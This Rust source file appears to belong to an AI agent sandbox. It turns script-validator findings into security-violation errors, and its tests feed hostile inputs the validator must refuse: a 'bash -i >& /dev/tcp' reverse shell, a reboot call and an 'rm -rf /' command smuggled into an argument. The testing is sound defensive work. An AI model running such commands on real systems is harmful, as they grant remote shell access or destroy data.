//! Request policy the session manager applies before any sandbox is involved: the script
//! validator ([`validator`]), which screens what an agent asks to run.

pub mod validator;

use sandbox_core::{Error, ErrorCode};

impl validator::ValidationResult {
    /// The first finding as an `invalid_request` error with code `security_violation`, or
    /// `Ok(())` when the script passed. The message names the rule and where it fired, never
    /// the offending input (which may be a prompt-injected payload).
    pub fn into_result(self) -> Result<(), Error> {
        match self.first() {
            None => Ok(()),
            Some(finding) => Err(Error::invalid_input(format!(
                "security validation failed: {finding}"
            ))
            .with_code(ErrorCode::SecurityViolation)),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::validator::ScriptValidator;
    use sandbox_core::{ErrorCode, ErrorKind, Operation, Origin};

    #[test]
    fn validation_findings_become_security_violations() {
        let v = ScriptValidator::new();
        assert!(
            v.validate_all("print('hello')", &[], "")
                .into_result()
                .is_ok()
        );
        let err = v
            .validate_all("import os\nos.system('reboot')", &[], "")
            .into_result()
            .unwrap_err();
        assert_eq!(err.kind(), ErrorKind::InvalidRequest);
        assert_eq!(err.code(), Some(ErrorCode::SecurityViolation));
        assert!(
            err.to_string().contains("security validation failed"),
            "{err}"
        );
        let err = v
            .validate_all("print(1)", &["a; rm -rf /".to_owned()], "")
            .into_result()
            .unwrap_err();
        assert!(err.to_string().contains("arg[0]"), "{err}");
    }

    /// A refusal is caller input refused during validation, before any backend is involved.
    #[test]
    fn refusals_say_caller_validate() {
        let err = ScriptValidator::new()
            .validate_script("bash -i >& /dev/tcp/10.0.0.1/4242 0>&1")
            .into_result()
            .unwrap_err();
        assert_eq!(err.origin(), Origin::Caller, "{err}");
        assert_eq!(err.operation(), Operation::VALIDATE, "{err}");
        assert!(err.to_string().starts_with("caller validate: "), "{err}");
    }
}
